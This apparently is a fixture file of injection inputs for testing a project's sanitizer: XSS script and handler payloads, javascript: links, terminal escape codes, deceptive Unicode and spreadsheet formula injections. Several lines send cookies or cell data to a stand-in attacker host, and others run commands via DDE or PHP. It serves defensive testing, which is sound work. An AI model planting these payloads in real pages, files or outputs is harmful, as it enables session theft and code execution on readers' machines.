# What somebody may write into an article who wants its reader's browser, terminal,
# spreadsheet or eyes: the kind of thing, and the text.  Written for this project.

# Scripts in many disguises.
script | <script>alert(1)</script>
script | <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
script | <ScRiPt\n>alert(2)</sCrIpT\n>
script | <script/xss src="//evil.example/y.js"></script>
script | <<script>alert(3)//<</script>
script | <scr<script>ipt>alert(4)</scr</script>ipt>
script | </title><script>alert(5)</script>
script | </style><script>alert(6)</script>
script | </textarea><script>alert(7)</script>
script | </noscript><script>alert(8)</script>
script | <script type="module">import "https://evil.example/z.js"</script>
script | <script>document.location='https://evil.example/?'+document.cookie</script>
script | <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(9)</x:script>
script | %3Cscript%3Ealert(10)%3C/script%3E
script | &lt;script&gt;alert(11)&lt;/script&gt;
script | \\x3cscript\\x3ealert(12)\\x3c/script\\x3e
script | \u{FF1C}script\u{FF1E}alert(13)\u{FF1C}/script\u{FF1E}

# Handlers of events.
handler | <img src=x onerror=alert(1)>
handler | <img src=x:x onerror="alert(2)"/>
handler | <IMG """><b onclick=alert(3)>">
handler | <body onload=alert(4)>
handler | <svg onload=alert(5)>
handler | <svg/onload=alert(6)//
handler | <details open ontoggle=alert(7)>
handler | <input autofocus onfocus=alert(8)>
handler | <video><source onerror=alert(9)></video>
handler | <marquee onstart=alert(10)>news</marquee>
handler | <a onmouseover=alert(11)>hover</a>
handler | <div style="width:expression(alert(12))">
handler | <iframe srcdoc="<script>alert(13)</script>"></iframe>
handler | <object data="data:text/html;base64,PHNjcmlwdD4=">
handler | <embed src="https://evil.example/e.swf">
handler | <form action="https://evil.example/"><button>go</button></form>
handler | <button formaction=javascript:alert(14)>go</button>
handler | <isindex action=javascript:alert(15)>
handler | <keygen autofocus onfocus=alert(16)>
handler | <select autofocus onfocus=alert(17)>

# Attributes broken out of.
attribute | " onmouseover="alert(1)
attribute | ' onfocus='alert(2)' autofocus='
attribute | "><img src=x onerror=alert(3)>
attribute | '><svg onload=alert(4)>
attribute | ` onmouseover=alert(5) x=`
attribute | " style="position:fixed;inset:0
attribute | &quot; onclick=&quot;alert(6)
attribute | &#34;&#62;&#60;script&#62;alert(7)
attribute | x" id="main" class="skip
attribute | \x20onload=alert(8)\x20

# Links to what is not the web.
link | javascript:alert(1)
link | JaVaScRiPt:alert(2)
link | java\tscript:alert(3)
link | java\nscript:alert(4)
link | \x01javascript:alert(5)
link | \u{A0}javascript:alert(6)
link | javascript&colon;alert(7)
link | &#106;avascript:alert(8)
link | &#x6A&#x61&#x76ascript:alert(9)
link | javascript://https://a.example/%0Aalert(10)
link | data:text/html,<script>alert(11)</script>
link | data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
link | vbscript:msgbox(1)
link | view-source:https://a.example
link | file:///etc/passwd
link | blob:https://a.example/1
link | //evil.example/x
link | https:evil.example
link | https://a.example/"onmouseover="alert(12)
link | https://a.example/'><script>alert(13)</script>
link | https://a.example/\r\nSet-Cookie:x=1
link | <a href=javascript:alert(14)>text</a>
link | <a href="https://evil.example/" target=_blank>text</a>
link | <base href="https://evil.example/">
link | <link rel=stylesheet href=https://evil.example/s.css>
link | <meta http-equiv=refresh content="0;url=https://evil.example/">

# Entities that are broken, or that hide something.
entity | &
entity | &amp
entity | &lt
entity | &#
entity | &#x
entity | &#0;
entity | &#x110000;
entity | &#xD800;
entity | &notanentity;
entity | &NewLine;&Tab;&lpar;
entity | &amp;lt;b&amp;gt;

# SVG and MathML.
foreign | <svg><script>alert(1)</script></svg>
foreign | <svg><a xlink:href="javascript:alert(2)"><text y=20>x</text></a></svg>
foreign | <svg><animate attributeName=href values=javascript:alert(3)></svg>
foreign | <svg><foreignObject><body onload=alert(4)></foreignObject></svg>
foreign | <svg><use href="data:image/svg+xml,<svg id=x onload=alert(5)>"></svg>
foreign | <svg><style><!--</style><img src=x onerror=alert(6)>--></style></svg>
foreign | </svg><img src=x onerror=alert(7)>
foreign | </text></svg></figure><h1>Another report</h1>
foreign | <math><mtext><table><mglyph><style><img src=x onerror=alert(8)>
foreign | <math href="javascript:alert(9)">x</math>

# Out of comments, CDATA, and elements whose text is raw.
raw | --><script>alert(1)</script><!--
raw | <!--><script>alert(2)</script>-->
raw | <!-- never closed
raw | ]]><script>alert(3)</script>
raw | <![CDATA[<script>alert(4)</script>]]>
raw | </style><style>@import 'https://evil.example/s.css';
raw | body{background:url(https://evil.example/b.png)}
raw | <title>Another title</title>
raw | <plaintext>
raw | <xmp><img src=x onerror=alert(5)></xmp>
raw | <noembed><script>alert(6)</script>
raw | <template><script>alert(7)</script></template>
raw | <?xml version="1.0"?><?php system("id") ?>
raw | <!DOCTYPE html SYSTEM "file:///etc/passwd">

# Tags that never end, and ends without a beginning.
open | <
open | <a
open | <a href="
open | <a href='https://a.example
open | </
open | </main></body></html>
open | </td></tr></table>after the table
open | </blockquote></li></ol>after the list
open | <div <div <div
open | >>>>>

# Bytes that are not UTF-8: overlong, cut off, surrogates, beyond the last.
bytes | \xC0\xBCscript\xC0\xBEalert(1)
bytes | \xE0\x80\xBCscript\xE0\x80\xBE
bytes | \xF0\x80\x80\xBCb\xF0\x80\x80\xBE
bytes | cut off \xE2\x80
bytes | \xED\xA0\x80 half of a pair
bytes | \xF4\x90\x80\x80 beyond
bytes | \x80\xBF\xFE\xFF
bytes | \xC2<b>\xC2"onclick=alert(2)

# What a terminal obeys.
terminal | \e[5;7mblinking\e[0m
terminal | \e]0;a new title\x07
terminal | \e]8;;https://evil.example/\e\\link\e]8;;\e\\
terminal | \e[2J\e[H cleared
terminal | \e]52;c;ZXZpbA==\x07 in the clipboard
terminal | \eP1$r0m\e\\ a device's answer
terminal | \u{9B}31mred by C1
terminal | \u{9D}0;title by C1\u{9C}
terminal | over\x08\x08\x08\x08write\rover it
terminal | \x07\x0E\x0F\x7F bells and shifts

# What deceives the eye.
eyes | \u{202E}txet desrever\u{202C}
eyes | \u{202D}\u{202A}\u{202B}embedded
eyes | \u{2066}isolated\u{2067}\u{2068}\u{2069}
eyes | pay\u{200B}pal zero\u{FEFF}width
eyes | soft\u{AD}hyphen and \u{E0041}tags
eyes | \u{5E9}\u{5DC}\u{5D5}\u{5DD} \u{645}\u{631}\u{62D}\u{628}\u{627} <b>rtl</b>
eyes | first\u{2028}second\u{2029}third
eyes | a\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307} stacked
eyes | \u{206A}\u{206F}deprecated

# Markdown.
markdown | [click](javascript:alert(1))
markdown | ![image](https://evil.example/i.png)
markdown | [x]: javascript:alert(2) "title"
markdown | <javascript:alert(3)>
markdown | # A heading
markdown | - an item
markdown | 1. a number
markdown | > a quote
markdown | `code` and ``` a fence
markdown | **bold** __bold__ *it* _it_ ~~gone~~
markdown | \| a \| table \|
markdown | \|---\|---\|
markdown | === 
markdown | ](https://evil.example) [
markdown | \\[escaped\\](javascript:alert(4))
markdown | [a](https://a.example "x" onclick=y)
markdown | &#91;click&#93;(javascript:alert(5))

# Spreadsheets.
formula | =1+1
formula | =HYPERLINK("https://evil.example/?"&A1,"click")
formula | +1+1
formula | -2+3
formula | @SUM(1+1)
formula | =cmd\|' /C calc'!A0
formula | \t=1+2
formula | \r=1+3
formula | \n=1+4
formula | \u{200B}=1+5
formula | \u{FEFF}=1+6
formula | \u{AD}@SUM(7)
formula | \u{FF1D}1+8
formula | \u{FF0B}1+9
formula | \u{FF20}SUM(10)
formula | \x20=1+11
formula | ";=1+12;"
formula | ",=1+13,"
